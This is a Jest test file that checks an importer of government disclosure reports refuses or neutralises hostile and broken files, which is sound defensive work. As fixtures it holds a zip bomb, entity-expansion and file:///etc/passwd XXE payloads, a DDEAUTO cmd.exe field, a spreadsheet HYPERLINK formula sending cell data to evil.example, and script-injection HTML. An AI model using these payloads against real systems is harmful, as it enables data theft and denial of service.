/** Files made to harm whoever opens them, and files that are merely broken. */
import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { buffer } from 'node:stream/consumers';
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { ZipFile } from 'yazl';
import { completeDocument } from '../../../../../../tests/fixtures/documents';
import { layouts, plainText } from '../../../model';
import { type ImportedReport, importReport } from './import-report';
import { UnusableFile } from './unusable-file';
import { type ExportFormat, exportFormats, writers } from './writers';

jest.setTimeout(240_000);

/** Seconds that a file may take on a small, busy machine, and megabytes that it may leave or hold. */
const patience = 20;
const memory = 600;

const report = () => ({
  document: { ...completeDocument(layouts.v2021), title: '示例市水务局2023年政府信息公开工作年度报告', year: 2023 },
});
const written = async (format: ExportFormat) => Buffer.from(await writers[format].write(report()));
const read = (content: string | Uint8Array, fileName: string): Promise<ImportedReport> =>
  importReport(typeof content === 'string' ? Buffer.from(content) : content, { fileName });

/** What becomes of a file, within bounded time and memory: a report, or a reason in both languages. */
async function outcome(content: string | Uint8Array, fileName: string): Promise<ImportedReport | UnusableFile> {
  const before = process.memoryUsage().rss;
  const begun = performance.now();
  const result = await read(content, fileName).catch((error: unknown) => error);
  expect((performance.now() - begun) / 1000).toBeLessThan(patience);
  expect((process.memoryUsage().rss - before) / 2 ** 20).toBeLessThan(memory);
  if (result instanceof UnusableFile) {
    expect(result.message).toMatch(/[\u4E00-\u9FFF].* \/ [A-Z]/);
    return result;
  }
  if (result instanceof Error) throw result;
  return result as ImportedReport;
}

const refused = async (content: string | Uint8Array, fileName: string): Promise<string> => {
  const result = await outcome(content, fileName);
  if (!(result instanceof UnusableFile)) throw new Error('The file was read');
  return result.message;
};

function archive(entries: Record<string, string | Buffer>): Promise<Buffer> {
  const zip = new ZipFile();
  for (const [name, content] of Object.entries(entries)) zip.addBuffer(Buffer.from(content), name);
  zip.end();
  return buffer(zip.outputStream);
}

const xml = (body: string) => `<?xml version="1.0" encoding="UTF-8"?>${body}`;
const word = (body: string, more: Record<string, string | Buffer> = {}) =>
  archive({
    '[Content_Types].xml': xml(
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
    ),
    '_rels/.rels': xml(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
    ),
    'word/document.xml': xml(
      `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>${body}</w:body></w:document>`,
    ),
    ...more,
  });
const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
const bookEntries = (sheet: string, more: Record<string, string> = {}) => ({
  '[Content_Types].xml': xml(
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
  ),
  '_rels/.rels': xml(
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
  ),
  'xl/workbook.xml': xml(
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets></workbook>',
  ),
  'xl/_rels/workbook.xml.rels': xml(
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
  ),
  'xl/worksheets/sheet1.xml': xml(
    `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${sheet}</worksheet>`,
  ),
  ...more,
});

describe('a zip bomb', () => {
  const bomb = Buffer.alloc(200 * 2 ** 20, ' ');

  it.each(['word/document.xml', 'word/media/image1.png'])('in %s is refused before it unfolds', async (name) => {
    expect(await refused(await word(paragraph('年度报告'), { [name]: bomb }), 'a.docx')).toContain('unpacks');
  });

  it('in a workbook is refused before it unfolds', async () => {
    const entries = bookEntries('<sheetData/>');
    expect(await refused(await archive({ ...entries, 'xl/sharedStrings.xml': bomb }), 'a.xlsx')).toContain('unpacks');
  });

  it('that lies about its size is refused', async () => {
    const honest = await word(paragraph('年度报告'), { 'word/media/a.bin': Buffer.alloc(8 * 2 ** 20) });
    const lying = Buffer.from(honest);
    // The size in the central directory, which readers trust, becomes ten bytes.
    for (let at = lying.indexOf('PK\x01\x02'); at >= 0; at = lying.indexOf('PK\x01\x02', at + 4))
      if (lying.readUInt32LE(at + 24) === 8 * 2 ** 20) lying.writeUInt32LE(10, at + 24);
    expect(await refused(lying, 'a.docx')).toContain('damaged');
  });

  it('of many small entries is refused', async () => {
    const many = Object.fromEntries(Array.from({ length: 2_500 }, (_, at) => [`word/media/${at}`, 'x']));
    expect(await refused(await word(paragraph('年度报告'), many), 'a.docx')).toContain('too many entries');
  });
});

describe('XML entities', () => {
  const laughs = `<!DOCTYPE d [<!ENTITY a "${'ha'.repeat(50)}">${Array.from(
    { length: 9 },
    (_, at) => `<!ENTITY ${String.fromCharCode(98 + at)} "${`&${String.fromCharCode(97 + at)};`.repeat(10)}">`,
  ).join('')}]>`;

  it.each([
    ['that grow', laughs],
    ['that name a file', '<!DOCTYPE d [<!ENTITY a SYSTEM "file:///etc/passwd">]>'],
  ])('%s are refused', async (_, declaration) => {
    const document = xml(`${declaration}<w:document>${paragraph('&j;&a;')}</w:document>`);
    expect(await refused(await word('', { 'word/document.xml': document }), 'a.docx')).toContain('entities');
    const sheet = xml(`${declaration}<worksheet><sheetData/></worksheet>`);
    expect(await refused(await archive({ ...bookEntries(''), 'xl/worksheets/sheet1.xml': sheet }), 'a.xlsx')).toContain(
      'entities',
    );
  });

  it('in a page stay words', async () => {
    const result = await outcome(`<?xml version="1.0"?>${laughs}<html><body><p>&j;</p></body></html>`, 'a.html');
    expect(result).toBeInstanceOf(UnusableFile);
  });
});

describe('a file that would reach outside', () => {
  it('reaches nothing: macros are left closed, links are not followed, local ones are dropped', async () => {
    let calls = 0;
    const listener = createServer((_request, response) => {
      calls += 1;
      response.end();
    }).listen(0, '127.0.0.1');
    await once(listener, 'listening');
    const address = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
    try {
      const relation = (id: string, type: string, target: string) =>
        `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`;
      const docx = await word(
        `${paragraph('示例市水务局2023年政府信息公开工作年度报告')}${paragraph('一、总体情况')}<w:p><w:hyperlink r:id="l1"><w:r><w:t>本地</w:t></w:r></w:hyperlink><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r></w:p>${paragraph('无其他事项。')}`,
        {
          'word/vbaProject.bin': Buffer.from('macro'),
          'word/_rels/document.xml.rels': xml(
            `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relation('l1', 'hyperlink', 'file:///etc/passwd')}${relation('l2', 'image', `${address}/x.png`)}${relation('l3', 'attachedTemplate', `${address}/t.dotm`)}</Relationships>`,
          ),
        },
      );
      const { document } = await read(docx, 'a.docm');
      expect(JSON.stringify(document)).not.toMatch(/passwd|DDEAUTO|cmd\.exe/);
      const page = `<html><head><link rel="stylesheet" href="${address}/a.css"><script src="${address}/a.js"></script></head><body><h1>示例市水务局2023年政府信息公开工作年度报告</h1><h2>一、总体情况</h2><p>本年度按计划完成。</p><img src="${address}/a.png"><iframe src="${address}"></iframe></body></html>`;
      await read(page, 'a.html');
      const sheet = `<sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("${address}")</f><v>示例市水务局2023年政府信息公开工作年度报告</v></c></row><row r="2"><c r="A2" t="inlineStr"><is><t>一、总体情况</t></is></c></row><row r="3"><c r="A3" t="inlineStr"><is><t>本年度按计划完成。</t></is></c></row></sheetData>`;
      const link = xml(
        `<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook/></externalLink>`,
      );
      const book = await archive(bookEntries(sheet, { 'xl/externalLinks/externalLink1.xml': link }));
      expect(JSON.stringify((await read(book, 'a.xlsx')).document)).not.toContain('WEBSERVICE');
      expect(calls).toBe(0);
    } finally {
      listener.close();
    }
  });

  it('brings no script, style or address of one along', async () => {
    const page = `<html><body><h1>示例市水务局2023年政府信息公开工作年度报告</h1><h2>一、总体情况</h2><p onclick="steal()">按计划<script>steal()</script><style>p{}</style>完成<a href="javascript:steal()">。</a><svg onload="steal()"></svg><noscript>steal()</noscript></p></body></html>`;
    const { document } = await read(page, 'a.html');
    expect(document.sections.map(({ body }) => plainText(body))).toEqual(['按计划完成。']);
    expect(JSON.stringify(document)).not.toMatch(/steal|javascript/);
  });
});

describe('a file that is far too large', () => {
  it('is refused: 50 MB of HTML', async () => {
    expect(await refused(`<html><body>${'<p>字</p>'.repeat(6_000_000)}`, 'a.html')).toContain('too large');
  });

  const million = 1_000_000;
  it.each<[string, string, () => string]>([
    ['HTML', 'a.html', () => `<table>${`<tr>${'<td>0'.repeat(100)}`.repeat(million / 100)}</table>`],
    ['a page of one row', 'a.html', () => `<table><tr>${'<td>0'.repeat(million)}</table>`],
    ['CSV', 'a.csv', () => `${'0,'.repeat(99)}0\n`.repeat(million / 100)],
    ['text', 'a.txt', () => `${'0|'.repeat(100)}\n`.repeat(million / 100)],
    ['tabs in one line', 'a.txt', () => '0\t'.repeat(million)],
  ])('is refused: a million table cells in %s', async (_, name, make) => {
    expect(await refused(make(), name)).toMatch(/too (many|large|long)/);
  });

  it('is refused: a million table cells in Word and Excel', async () => {
    const row = `<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(100)}</w:tr>`;
    expect(await refused(await word(`<w:tbl>${row.repeat(million / 100)}</w:tbl>`), 'a.docx')).toMatch(/too/);
    const cells = `<row>${'<c><v>0</v></c>'.repeat(100)}</row>`;
    const book = await archive(bookEntries(`<sheetData>${cells.repeat(million / 100)}</sheetData>`));
    expect(await refused(book, 'a.xlsx')).toMatch(/too/);
  });

  it('is refused: cells merged over the whole sheet, and a row at its end', async () => {
    const merged = `<sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>`;
    expect(await refused(await archive(bookEntries(merged)), 'a.xlsx')).toContain('Merged cells');
    const far = '<sheetData><row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>';
    expect(await refused(await archive(bookEntries(far)), 'a.xlsx')).toContain('rows');
  });

  const times = (xml: string, count: number) => xml.repeat(count);
  it.each<[string, () => Promise<Buffer>]>([
    ['paragraphs', () => word(times('<w:p><w:r><w:t>字</w:t></w:r></w:p>', 100_000))],
    ['runs', () => word(`<w:p>${times('<w:r></w:r>', 150_000)}</w:p>`)],
    ['cells', () => word(`<w:tbl>${times('<w:tr><w:tc><w:p/></w:tc></w:tr>', 40_000)}</w:tbl>`)],
    ['footnotes', () => word(paragraph('年度报告'), { 'word/footnotes.xml': xml(times('<w:p></w:p>', 150_000)) })],
    ['styles', () => word(paragraph('年度报告'), { 'word/styles.xml': xml(times('<w:style/>', 150_000)) })],
    ['notes by another name', () => word(paragraph('年度报告'), { 'word/a.png': xml(times('<w:p/>', 150_000)) })],
    ['characters', () => word(paragraph('年度报告'), { 'word/a.xml': xml(`<a b="${times('c', 13 * 2 ** 20)}"/>`) })],
  ])('is refused before Word is parsed: too many %s', async (_, make) => {
    const file = await make();
    const begun = performance.now();
    expect(await refused(file, 'a.docx')).toMatch(/too (many elements|large)/);
    expect(performance.now() - begun).toBeLessThan(1_500);
  });

  it.each([
    ['in one row', '0,'.repeat(7_500_000)],
    ['that are empty, in one row', ','.repeat(15_000_000)],
    ['on many lines, in one row', '"\n",'.repeat(3_000_000)],
  ])('is refused: CSV with cells %s', async (_, content) => {
    const begun = performance.now();
    expect(await refused(content, 'a.csv')).toMatch(/A row (has too many cells|is too long)/);
    expect(performance.now() - begun).toBeLessThan(3_000);
  });

  it('lists what found no place only so far, and is refused when it breaks far too much', async () => {
    const rows = Object.fromEntries(Array.from({ length: 5_000 }, (_, at) => [`r${at}`, { total: 1 }]));
    const unknown = JSON.stringify({ year: 2023, layout: 'v2021', applications: rows });
    expect(await refused(unknown, 'a.json')).toContain('too many errors');
    const lines = '一、本年新收政府信息公开申请数量21710000218\n'.repeat(3_000);
    const { unmapped } = await read(`三、收到和处理政府信息公开申请情况\n${lines}`, 'a.txt');
    expect(unmapped).toHaveLength(1_001);
    expect(unmapped.at(-1)?.text).toMatch(/^另有 \d+ 处未列出 \/ \d+ more are not listed$/);
  });

  it('is refused: a cell far to the right in each of many rows', async () => {
    const rows = Array.from({ length: 29_000 }, (_, at) => `<row r="${at + 1}"><c r='ALL${at + 1}'><v>1</v></c></row>`);
    const book = await archive(bookEntries(`<sheetData>${rows.join('')}</sheetData>`));
    expect(await refused(book, 'a.xlsx')).toContain('too wide');
  });

  it('is read as far as a report goes: one cell at the end of a row', async () => {
    const text = (cell: string, words: string) => `<c r="${cell}" t="inlineStr"><is><t>${words}</t></is></c>`;
    const rows = ['示例市水务局2023年政府信息公开工作年度报告', '一、总体情况', '按计划完成。'].map(
      (words, at) => `<row r="${at + 1}">${text(`A${at + 1}`, words)}${at === 0 ? text('XFD1', '远') : ''}</row>`,
    );
    const { document } = await read(await archive(bookEntries(`<sheetData>${rows.join('')}</sheetData>`)), 'a.xlsx');
    expect(document.sections.map(({ body }) => plainText(body))).toEqual(['按计划完成。']);
  });

  it('costs bounded time: hundreds of thousands of empty wrappings in Word', async () => {
    const body =
      paragraph('2023年政府信息公开工作年度报告') + paragraph('一、总体情况') + '<w:moveTo/>'.repeat(300_000);
    await outcome(await word(body), 'a.docx');
  });

  it.each([
    ['spans', '<table><tr><td rowspan="65534" colspan="1000">1</td></tr><tr><td>1</td></tr></table>'.repeat(200)],
    ['depth', '<div>'.repeat(100_000)],
    ['depth of tables', '<table><tr><td>'.repeat(20_000)],
    ['depth of what needs no end', '<li>'.repeat(100_000)],
    ['attributes', `<p ${Array.from({ length: 200_000 }, (_, at) => `a${at}="1"`).join(' ')}>年度报告</p>`],
  ])('costs bounded time: HTML with excessive %s', async (_, body) => {
    expect(await outcome(`<html><body>${body}</body></html>`, 'a.html')).toBeInstanceOf(UnusableFile);
  });

  it.each([
    ['paragraphs in Word', 'a.docx', () => word(`<w:sdt><w:sdtContent>${'<w:ins>'.repeat(50_000)}`)],
    ['moved text in Word', 'a.docx', () => word('<w:moveTo>'.repeat(200_000))],
    [
      'JSON',
      'a.json',
      async () => `{"year":2023,"layout":"v2021","sections":${'['.repeat(200_000)}${']'.repeat(200_000)}}`,
    ],
    [
      'lists in JSON',
      'a.json',
      async () => {
        const open = '{"type":"list","format":"ordered","children":[';
        const body = `${open.repeat(20_000)}${']}'.repeat(20_000)}`;
        return `{"year":2023,"layout":"v2021","sections":[{"chapter":"overview","heading":null,"body":[${body}]}]}`;
      },
    ],
  ])('costs bounded time: very deep %s', async (_, name, make) => {
    const result = await outcome(await make(), name);
    if (!(result instanceof UnusableFile)) expect(result.document.sections).toEqual([]);
  });

  it.each([
    ['digits', '1'.repeat(1_500_000)],
    [
      'a table without separators',
      `三、收到和处理政府信息公开申请情况\n${'一、本年新收政府信息公开申请数量21710000218'.repeat(20_000)}`,
    ],
    [
      'many lines without separators',
      `三、收到和处理政府信息公开申请情况\n${'一、本年新收政府信息公开申请数量21710000218\n'.repeat(20_000)}`,
    ],
    ['headings', '一、总体情况\n二、主动公开政府信息情况\n'.repeat(10_000)],
    ['sums in words', `2023年政府信息公开工作年度报告\n一、总体情况\n${'共3条。其中:甲类1条;乙类2条;'.repeat(60_000)}`],
    ['brackets', `2023年政府信息公开工作年度报告\n一、总体情况\n${'10项(其中'.repeat(150_000)}`],
    ['pipes', `${'|'.repeat(400_000)}\n`.repeat(3)],
    ['spaces', `2023年政府信息公开工作年度报告\n一、总体情况\n${' '.repeat(1_900_000)}x`],
    ['numbers for a telephone', `2023年政府信息公开工作年度报告\n一、总体情况\n${'1381234567'.repeat(150_000)}`],
  ])('costs bounded time: text of %s', async (_, text) => {
    await outcome(text, 'a.txt');
  });
});

describe('formulas', () => {
  const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';

  it('in a file that comes in are words, and no figures', async () => {
    const sheet = (await written('csv')).toString().replace(/,0\r\n/, `,"${formula.replaceAll('"', '""')}"\r\n`);
    const { document, unmapped } = await read(sheet, 'a.csv');
    expect(unmapped.map(({ text }) => text).join()).toContain('=HYPERLINK');
    expect(JSON.stringify(document)).not.toContain('=HYPERLINK');
  });

  it('in a file that goes out are words', async () => {
    const { document } = report();
    const source = {
      document: { ...document, title: formula },
      organization: { code: 'X', name: '@SUM(1)', kind: null, regionCode: null },
    };
    const csv = await writers.csv.write(source);
    expect(csv).toContain("'@SUM(1)");
    expect(String(csv)).not.toMatch(/(^|,)"?[=@]/m);
    const { default: ExcelJS } = await import('exceljs');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(new Uint8Array(Buffer.from(await writers.xlsx.write(source))).buffer);
    expect(workbook.getWorksheet('报告信息')?.getCell('B1').value).toBe(formula);
  });
});

describe('a file with the wrong name', () => {
  it.each(
    exportFormats.flatMap((format) =>
      ['docx', 'xlsx', 'html', 'txt', 'exe'].map((suffix) => [format, suffix] as const),
    ),
  )('%s called .%s is read for what it is', async (format, suffix) => {
    const result = await outcome(await written(format), `report.${suffix}`);
    // Nothing but its name tells a table of commas from text.
    if (format === 'csv') return;
    expect(result).toMatchObject({ document: { year: 2023, layout: 'v2021' } });
  });

  it.each([
    ['PDF', '%PDF-1.7\n'],
    ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10])],
    ['an old Word file', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])],
    ['a program', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(4_000, 3)])],
    ['another archive', deflateRawSync(Buffer.alloc(10_000))],
    ['nothing', ''],
  ])('is refused with a reason: %s', async (_, content) => {
    await refused(content, 'report.docx');
  });
});

describe('a file that was cut off or damaged', () => {
  it.each(exportFormats)('is read as far as it goes, or refused: %s', async (format) => {
    const whole = await written(format);
    for (const share of [0.02, 0.2, 0.5, 0.9, 0.99])
      await outcome(whole.subarray(0, Math.floor(whole.length * share)), `report.${format}`);
  });

  it.each(exportFormats)('with bytes changed is read, or refused: %s', async (format) => {
    const whole = await written(format);
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(fc.nat(whole.length - 1), fc.nat(255)), { minLength: 1, maxLength: 40 }),
        async (changes) => {
          const copy = Buffer.from(whole);
          for (const [at, byte] of changes) copy[at] = byte;
          await outcome(copy, `report.${format}`);
        },
      ),
      { numRuns: 12 },
    );
  });

  it('of any bytes is read, or refused', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('', 'PK\x03\x04', '<html>', '{"', '\uFEFF', 'a,b\n'),
        fc.uint8Array({ maxLength: 2_000 }),
        fc.constantFrom('a.docx', 'a.xlsx', 'a.html', 'a.csv', 'a.json', 'a.txt'),
        async (start, bytes, name) => {
          await outcome(Buffer.concat([Buffer.from(start), bytes]), name);
        },
      ),
      { numRuns: 300 },
    );
  });
});
